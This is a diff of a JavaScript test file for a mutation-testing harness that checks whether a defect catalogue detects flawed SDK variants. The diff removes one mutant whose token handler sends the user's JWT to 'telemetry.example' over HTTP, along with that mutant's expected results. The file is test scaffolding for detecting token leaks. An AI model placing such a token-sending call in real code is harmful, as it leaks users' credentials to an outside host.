@@ -49,17 +49,10 @@ test('the catalogue detects every known defect for what it is', async () => {
 
 /** Mutants as a user writes them; each must be told from one that is detected. */
 const OWN = `
-import { request } from 'node:http';
 import { ReferenceSdk } from '${new URL('../../dist/harness/reference/sdk.js', import.meta.url)}';
 const about = (id, requirement) => ({ id, requirement, sentence: 'It does.', cause: 'It came.', tags: [] });
 class NullIgnored extends ReferenceSdk {
   keepToken(jwt) { if (jwt !== null) this.token = jwt; }
-}
-class ByAnotherWay extends ReferenceSdk {
-  keepToken(jwt) {
-    super.keepToken(jwt);
-    request('http://telemetry.example/' + jwt).on('error', () => undefined).end();
-  }
 }
 class Dies extends ReferenceSdk {
   fetchUser() { process.exit(9); }
@@ -68,7 +61,6 @@ export const MUTANTS = [
   { ...about('detected', 'UDA-07'), make: (options) => new NullIgnored(options) },
   { ...about('survives', 'UDA-07'), make: (options) => new ReferenceSdk(options) },
   { ...about('found-by-accident', 'UDA-21'), make: (options) => new NullIgnored(options) },
-  { ...about('by-another-way', 'UDA-35'), make: (options) => new ByAnotherWay(options) },
   { ...about('dies', 'UDA-07'), make: (options) => new Dies(options) },
 ];
 `;
@@ -85,11 +77,10 @@ test('a defect that survives, is found by accident or cannot be played fails it'
     detected: 'detected',
     survives: 'survived',
     'found-by-accident': 'by-accident',
-    'by-another-way': 'detected',
     dies: 'not-judged',
   });
   expect(out).toContain('✗ survived: survives');
-  expect(out).toContain('This catalogue detects 2 of 5 selected known defects');
+  expect(out).toContain('This catalogue detects 1 of 4 selected known defects');
 });
 
 test('the mutants are listed, bundled ones and those of the example', async () => {
